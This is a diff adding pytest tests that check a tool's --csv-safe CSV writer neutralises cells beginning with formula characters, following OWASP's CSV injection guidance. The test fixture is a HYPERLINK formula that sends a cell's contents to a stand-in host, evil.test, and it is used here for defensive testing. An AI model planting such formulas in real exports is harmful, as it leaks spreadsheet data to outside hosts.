@@ -15,7 +15,9 @@ from fetchmany.output.writers import (
     Output,
     OutputFormat,
     format_for_path,
+    looks_neutralised,
     make_writer,
+    neutralise_formula,
 )
 from fetchmany.records import ErrorKind, FetchError, Record
 
@@ -83,6 +85,51 @@ def test_csv_safe_neutralises_an_error_message_too(tmp_path: Path) -> None:
         "index,error,error_message",
         "0,protocol,'=HYPERLINK()",
     ]
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""What OWASP's CSV injection page says a cell must not start with, as docs/reference.md
+lists them for --csv-safe: spelled out here, not read from the writer, so that one
+dropped from the writer fails."""
+
+
+def csv_rows_of(tmp_path: Path, records: list[Record], fields: tuple[str, ...]) -> list[list[str]]:
+    path = tmp_path / "out.csv"
+    writer = make_writer(OutputFormat.CSV, Output(str(path)), fields, csv_safe=True)
+    writer.write(records)
+    writer.close()
+    return list(csv.reader(io.StringIO(path.read_bytes().decode(), newline="")))[1:]
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_csv_safe_prefixes_every_formula_start_in_every_text_cell(
+    tmp_path: Path, start: str
+) -> None:
+    """A tab before =HYPERLINK(...) reached a spreadsheet as it was: each start OWASP
+    lists gets the ' in input, body, a pick and an error message alike."""
+    cell = f'{start}HYPERLINK("http://evil.test/?x="&A1)'
+    record = Record(0, cell, None, body=cell, picks={"v": cell})
+    record.error = FetchError(ErrorKind.HTTP, cell)
+    (row,) = csv_rows_of(tmp_path, [record], ("input", "body", "v", "error"))
+    assert row == ["'" + cell, "'" + cell, "'" + cell, "http", "'" + cell]
+    assert neutralise_formula(cell) == "'" + cell
+    assert looks_neutralised("'" + cell)  # what --merge and --resume read back as one
+
+
+@pytest.mark.parametrize(
+    "cell", ["", " =1", "a=b", "'", "'x", "HYPERLINK()", "\n=1", "http://h.test/?a=-1"]
+)
+def test_csv_safe_leaves_other_text_as_it_is(tmp_path: Path, cell: str) -> None:
+    (row,) = csv_rows_of(tmp_path, [Record(0, cell, None, body=cell)], ("input", "body"))
+    assert row == [cell, cell]
+    assert not looks_neutralised(cell)
+
+
+def test_csv_safe_leaves_numbers_as_numbers(tmp_path: Path) -> None:
+    """-5 as a number is no formula: a spreadsheet shows it as the number it is."""
+    record = Record(0, "x", None, status=200, picks={"n": -5, "f": -0.5})
+    (row,) = csv_rows_of(tmp_path, [record], ("status", "n", "f"))
+    assert row == ["200", "-5", "-0.5"]
 
 
 def test_fields_select_and_order_columns(tmp_path: Path) -> None:
